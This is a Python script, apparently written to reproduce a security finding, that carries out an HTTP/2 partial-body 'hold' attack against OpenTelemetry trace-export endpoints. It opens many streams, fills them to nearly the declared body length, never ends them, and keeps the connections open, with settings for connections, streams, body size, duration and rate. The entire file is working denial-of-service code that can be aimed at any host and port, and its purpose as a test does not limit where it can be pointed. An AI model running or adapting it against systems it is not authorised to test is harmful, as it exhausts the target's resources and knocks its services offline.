#!/usr/bin/env python3
"""h2_hold.py: an HTTP/2 (h2c) client that opens streams, sends most of each
request body as fast as the server's flow control allows, never ends them,
and holds the connections open: the partial-bodies attack of issue 15
(finding 5), scaled down. Standard library only: frames by hand, HPACK
literals without Huffman.

  h2_hold.py HOST:PORT grpc|http CONNS STREAMS BODY_BYTES HOLD_S [RATE]

RATE: bytes per second per connection at most (default: no limit).

Prints one line: "sent N bytes, M streams reset, K connections closed".
"""
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def hpack_literal(name, value):
    def s(b):
        assert len(b) < 127
        return bytes([len(b)]) + b
    return b"\x00" + s(name) + s(value)


class Conn:
    def __init__(self, addr, proto, streams, body):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.proto, self.nstreams, self.body = proto, streams, body
        self.lock = threading.Condition()
        self.conn_window = 65535
        self.win = {}
        self.initial = 65535
        self.reset = set()
        self.closed = False
        self.sent = 0
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self.reader, daemon=True).start()

    def reader(self):
        buf = b""
        try:
            while True:
                d = self.sock.recv(65536)
                if not d:
                    break
                buf += d
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    t, fl = buf[3], buf[4]
                    sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    p = buf[9:9 + n]
                    buf = buf[9 + n:]
                    with self.lock:
                        if t == SETTINGS and not fl & 1:
                            for i in range(0, len(p), 6):
                                k, v = struct.unpack(">HI", p[i:i + 6])
                                if k == 4:
                                    for s in self.win:
                                        self.win[s] += v - self.initial
                                    self.initial = v
                            self.sock.sendall(frame(SETTINGS, 1, 0))
                        elif t == WINDOW_UPDATE:
                            inc = int.from_bytes(p[:4], "big") & 0x7FFFFFFF
                            if sid == 0:
                                self.conn_window += inc
                            elif sid in self.win:
                                self.win[sid] += inc
                        elif t == PING and not fl & 1:
                            self.sock.sendall(frame(PING, 1, 0, p))
                        elif t == RST_STREAM or (t == HEADERS and fl & 1):
                            self.reset.add(sid)
                        elif t == GOAWAY:
                            self.closed = True
                        self.lock.notify_all()
        except OSError:
            pass
        with self.lock:
            self.closed = True
            self.lock.notify_all()

    def headers(self, sid):
        if self.proto == "grpc":
            hs = [(b":method", b"POST"), (b":scheme", b"http"),
                  (b":path", b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
                  (b":authority", b"t"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
        else:
            hs = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/v1/traces"),
                  (b":authority", b"t"), (b"content-type", b"application/x-protobuf"),
                  (b"content-length", str(self.body + 1).encode())]
        return b"".join(hpack_literal(k, v) for k, v in hs)

    def run(self, deadline, rate):
        start = time.time()
        sids = [1 + 2 * i for i in range(self.nstreams)]
        left = {}
        with self.lock:
            for sid in sids:
                self.win[sid] = self.initial
                self.sock.sendall(frame(HEADERS, 4, sid, self.headers(sid)))
                if self.proto == "grpc":  # the message prefix: uncompressed, body+1 bytes long
                    prefix = b"\x00" + struct.pack(">I", self.body + 1)
                    self.sock.sendall(frame(DATA, 0, sid, prefix))
                    self.win[sid] -= 5
                    self.conn_window -= 5
                left[sid] = self.body
        chunk = b"\x00" * 16384
        while time.time() < deadline:
            progressed = False
            with self.lock:
                if self.closed:
                    return
                for sid in sids:
                    if sid in self.reset or left[sid] == 0:
                        continue
                    n = min(len(chunk), left[sid], self.win[sid], self.conn_window)
                    if rate and self.sent + n > rate * (time.time() - start):
                        break
                    if n <= 0:
                        continue
                    try:
                        self.sock.sendall(frame(DATA, 0, sid, chunk[:n]))
                    except OSError:
                        self.closed = True
                        return
                    self.win[sid] -= n
                    self.conn_window -= n
                    left[sid] -= n
                    self.sent += n
                    progressed = True
                if not progressed:
                    self.lock.wait(0.01 if rate else 0.2)


def main():
    addr, proto = sys.argv[1], sys.argv[2]
    conns, streams, body, hold = (int(x) for x in sys.argv[3:7])
    rate = int(sys.argv[7]) if len(sys.argv) > 7 else 0
    cs = [Conn(addr, proto, streams, body) for _ in range(conns)]
    deadline = time.time() + hold
    ts = [threading.Thread(target=c.run, args=(deadline, rate)) for c in cs]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    while time.time() < deadline:
        time.sleep(0.1)
    print("sent %d bytes, %d streams reset, %d connections closed" % (
        sum(c.sent for c in cs), sum(len(c.reset) for c in cs), sum(1 for c in cs if c.closed)))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
